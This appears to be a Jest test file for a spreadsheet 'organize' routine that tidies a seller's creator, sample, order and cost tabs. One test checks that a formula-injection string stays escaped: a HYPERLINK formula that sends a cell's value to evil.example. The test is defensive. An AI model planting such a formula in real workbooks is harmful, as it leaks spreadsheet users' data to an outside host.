/**
 * Organize (pure core) against workbooks whose right answers were written down independently:
 * the generator's ground truth for the demo workbook, and a hand-written messy workbook in
 * another seller's vocabulary.
 */
import { generateDemoWorkbook } from '../../../scripts/demo/generate';
import type { WorkbookModel } from '../../../scripts/runtime/workbook';
import { valuesOf } from '../../../scripts/runtime/workbook';
import type { OrganizeInput, OrganizeOutput } from '../../../src/core/organize';
import { organize } from '../../../src/core/organize';
import type { OutputCell, SheetValue } from '../../../src/core/cells';
import type { ManagedTabName } from '../../../src/core/schema';
import { headersOf, MANAGED_TABS, ORDERS } from '../../../src/core/schema';
import { expected as unseenExpected, unseenMessy } from '../../fixtures/unseenMessy';

const NOW = new Date('2026-11-23T18:00:00Z');

function run(
  workbook: WorkbookModel,
  previous?: OrganizeOutput,
  edit?: (tabs: Map<ManagedTabName, SheetValue[][]>) => void,
): OrganizeOutput {
  const managed: OrganizeInput['managed'] = {};
  if (previous) {
    const sheets = new Map(previous.tabs.map((t) => [t.name, [t.headers, ...t.rows.map((r) => r.map(plain))]]));
    edit?.(sheets);
    for (const [name, values] of sheets) managed[name] = { values };
  }
  return organize({
    tabs: workbook.sheets.map((s) => ({ name: s.name, values: valuesOf(s) })),
    managed,
    state: previous?.state ?? {},
    savedMappings: {},
    timeZone: workbook.timeZone,
    now: NOW,
  });
}

const plain = (cell: OutputCell): SheetValue =>
  typeof cell === 'object' && !(cell instanceof Date) ? cell.formula : cell;

function column(output: OrganizeOutput, tab: ManagedTabName, header: string): SheetValue[] {
  const managed = output.tabs.find((t) => t.name === tab)!;
  const index = managed.headers.indexOf(header);
  return managed.rows.map((row) => plain(row[index]));
}

function rowsOf(output: OrganizeOutput, tab: ManagedTabName): Record<string, SheetValue>[] {
  const managed = output.tabs.find((t) => t.name === tab)!;
  return managed.rows.map((row) => Object.fromEntries(managed.headers.map((h, i) => [h, plain(row[i])])));
}

describe('Organize on a messy workbook nobody on the team has seen', () => {
  const output = run(unseenMessy);

  it('leaves the unrelated tab alone and reads every other tab', () => {
    const kinds = Object.fromEntries(output.detections.map((d) => [d.tab, d.kind]));
    expect(kinds).toEqual({
      Influencers: 'creators',
      Budget: null,
      'Gifting tracker': 'samples',
      'Orders export': 'orders',
      'Product margins': 'products',
      Payouts: 'costs',
    });
  });

  it('makes one creator per handle, including a creator seen only in the gifting tracker', () => {
    const handles = column(output, 'Creators', 'Handle');
    expect([...handles].sort()).toEqual([...unseenExpected.creatorHandles, ...unseenExpected.handlesNotOnList].sort());
  });

  it('keeps every readable sample once', () => {
    expect(column(output, 'Samples', 'Sample ID')).toHaveLength(unseenExpected.sampleRows);
  });

  it('keeps Order IDs as exact text and numbers the lines of each order', () => {
    const rows = rowsOf(output, 'Orders');
    const keys = rows.map((r) => `${r['Order ID']}#${r.Line}`).sort();
    expect(keys).toEqual(unseenExpected.orderKeys.map((k) => `${k.orderId}#${k.line}`).sort());
    for (const row of rows) expect(typeof row['Order ID']).toBe('string');
  });

  it('reports exactly the unreadable cells and the duplicate rows, with the source header', () => {
    const reported = output.issues.map((i) => `${i.tab}!${i.row} ${i.column}`).sort();
    const expectedCells = [
      ...unseenExpected.problems.map((p) => `${p.tab}!${p.row} ${p.column}`),
      ...unseenExpected.duplicates.map((d) => `${d.tab}!${d.row} `),
    ].sort();
    expect(reported).toEqual(expectedCells);
  });

  it('reads decimal commas, day-first dates and pound amounts', () => {
    const amara = rowsOf(output, 'Samples').find((s) => s.Tracking === 'RM482913375GB')!;
    expect(amara['Sample cost']).toBe(4.8);
    expect(amara['Shipping cost']).toBe(3.2);
    expect(amara.Shipped).toEqual(new Date('2026-08-26T23:00:00Z')); // 27/08/2026 00:00 in London (BST)
    const orders = rowsOf(output, 'Orders');
    expect(orders.every((o) => o.Currency === 'GBP' && o.Region === 'UK')).toBe(true);
  });

  it('keeps formula-like text exactly as typed (the writer escapes it)', () => {
    const notes = rowsOf(output, 'Creators').map((c) => c.Notes);
    expect(notes).toContain('=HYPERLINK("https://evil.example/?q="&B3,"rate card")');
    expect(notes).toContain('+44 20 7946 0018');
  });
});

describe('Organize on the generated demo workbook', () => {
  const { workbook, truth } = generateDemoWorkbook();
  const output = run(workbook);
  const orders = rowsOf(output, 'Orders');

  it('finds every creator on the outreach list with their terms', () => {
    const creators = new Map(rowsOf(output, 'Creators').map((c) => [c.Handle, c]));
    for (const creator of truth.creators) {
      const row = creators.get(creator.handle);
      expect(row).toBeDefined();
      if (creator.email) expect(row!.Email).toBe(creator.email);
      if (creator.commission !== undefined) expect(row!['Commission %']).toBeCloseTo(creator.commission, 10);
      if (creator.promoCode) expect(row!['Promo code']).toBe(creator.promoCode);
      for (const brand of creator.brands) expect(String(row!.Brand)).toContain(brand);
    }
    for (const handle of truth.handlesOutsideOutreach) expect(creators.has(handle)).toBe(true);
  });

  it('has every sale line with the right creator, amounts, status, currency and region', () => {
    const byKey = new Map(orders.map((o) => [`${o['Order ID']}|${o.SKU}`, o]));
    const sales = truth.orderLines.filter((l) => !l.isSample);
    expect(orders).toHaveLength(sales.length);
    for (const line of sales) {
      const row = byKey.get(`${line.orderId}|${line.sku}`);
      expect(row).toMatchObject({
        Handle: line.handle ?? '',
        Units: line.units,
        'Gross sales': line.gross,
        'Seller discount': line.discount,
        Refund: line.refund,
        Status: line.status,
        Currency: line.currency,
        Region: line.region,
      });
      if (line.commission !== undefined) expect(row!.Commission).toBeCloseTo(line.commission, 2);
      if (line.commissionRate !== undefined && line.commission === undefined)
        expect(row!['Commission %']).toBeCloseTo(line.commissionRate, 10);
    }
  });

  it('marks platform fees it estimated and leaves cancelled and unpaid lines without one', () => {
    const formats = output.tabs.find((t) => t.name === 'Orders')!.formats;
    const feeColumn = headersOf(ORDERS).indexOf('Platform fee');
    orders.forEach((order, i) => {
      if (order.Status === 'cancelled' || order.Status === 'unpaid') expect(order['Platform fee']).toBe('');
      else expect(formats[i][feeColumn]).toContain('~');
    });
  });

  it('reports every broken cell, and every duplicate row once', () => {
    const reported = new Set(output.issues.map((i) => `${i.tab}!${i.row}`));
    for (const broken of truth.brokenRows) expect(reported).toContain(`${broken.tab}!${broken.row}`);
    for (const duplicate of truth.duplicateRows) expect(reported).toContain(`${duplicate.tab}!${duplicate.row}`);
  });

  it('counts samples and costs as the generator made them', () => {
    expect(column(output, 'Samples', 'Sample ID')).toHaveLength(truth.sampleCount);
    expect(column(output, 'Samples', 'Status').filter((s) => s === 'cancelled')).toHaveLength(
      truth.cancelledSampleCount,
    );
    expect(column(output, 'Costs', 'Amount')).toHaveLength(truth.costRowCount);
  });

  it('changes nothing when run again on its own output', () => {
    const again = run(workbook, output);
    for (const tab of MANAGED_TABS) {
      const before = output.tabs.find((t) => t.name === tab.name)!;
      const after = again.tabs.find((t) => t.name === tab.name)!;
      expect(after.rows).toEqual(before.rows);
      expect(after.merge).toMatchObject({ added: 0, updated: 0 });
    }
  });

  it('keeps what the operator typed into the managed tabs on the next run', () => {
    const again = run(workbook, output, (tabs) => {
      const creators = tabs.get('Creators')!;
      creators[1][headersOf(MANAGED_TABS[0]).indexOf('Status')] = 'paused';
      creators[1][headersOf(MANAGED_TABS[0]).indexOf('Name')] = 'Typed by hand';
      creators.push(['new.creator', 'Added by the operator', ...Array(14).fill('')]);
    });
    const creators = rowsOf(again, 'Creators');
    expect(creators[0]).toMatchObject({ Status: 'paused', Name: 'Typed by hand' });
    expect(creators.some((c) => c.Handle === 'new.creator' && c.Name === 'Added by the operator')).toBe(true);
  });
});

describe('Organize and product costs', () => {
  it('names each sold SKU that has no unit cost, once', () => {
    const { workbook, truth } = generateDemoWorkbook({
      creators: 40,
      samples: 50,
      orderLines: 2000,
      uncostedSku: true,
    });
    expect(truth.skusWithoutCost).toHaveLength(1);
    const output = run(workbook);
    const uncosted = output.issues.filter((i) => i.problem.startsWith('no unit cost'));
    expect(uncosted.map((i) => i.value)).toEqual(truth.skusWithoutCost);
    expect(
      run(generateDemoWorkbook({ creators: 40, samples: 50, orderLines: 2000 }).workbook).issues.filter((i) =>
        i.problem.startsWith('no unit cost'),
      ),
    ).toEqual([]);
  });
});

describe('Settings', () => {
  it('uses default FX rates only while there is no Settings tab', () => {
    const { readSettings } = jest.requireActual(
      '../../../src/core/settings',
    ) as typeof import('../../../src/core/settings');
    expect(readSettings(undefined).fxRates.GBP).toBe(1.27);
    const gbpShop = readSettings([
      ['Setting', 'Value'],
      ['Report currency', 'GBP'],
      ['FX rate USD', 0.79],
    ]);
    expect(gbpShop.reportCurrency).toBe('GBP');
    expect(gbpShop.fxRates).toEqual({ USD: 0.79 });
    expect(() => readSettings([['Report currency', 'pesos?']])).toThrow(/Settings: "Report currency"/);
  });
});
